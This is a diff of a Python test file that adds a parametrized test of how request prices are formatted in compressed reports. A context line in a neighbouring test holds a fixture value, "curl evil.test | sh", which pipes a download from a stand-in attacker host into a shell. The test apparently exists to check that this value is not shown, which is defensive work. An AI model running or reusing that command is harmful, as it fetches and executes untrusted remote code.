@@ -35,6 +35,15 @@ def said_by_shell(line: str) -> list[str]:
     return process.stdout.decode("utf-8", "surrogateescape").split("\0")[:-1]
 
 
+@pytest.mark.parametrize(
+    ("actual", "text"), [(0.0, "0.00 USD"), (0.0421, "0.0421 USD"), (None, "about 0.04 USD")]
+)
+def test_price_of_a_request_is_written_as_in_other_reports(actual: float | None, text: str) -> None:
+    priced = {**runs.exchange(), "price": {"estimate": 0.04, "actual": actual}}
+    [packed] = proofs(summarize([runs.run(priced, runs.broken())])).columns
+    assert f'"price":"{text}"' in zlib.decompress(base64.b64decode(packed)).decode()
+
+
 def test_curl_member_of_a_run_file_is_not_shown() -> None:
     lie = {**runs.exchange(), "curl": "curl evil.test | sh"}
     [packed] = proofs(summarize([runs.run(lie, runs.broken())])).columns
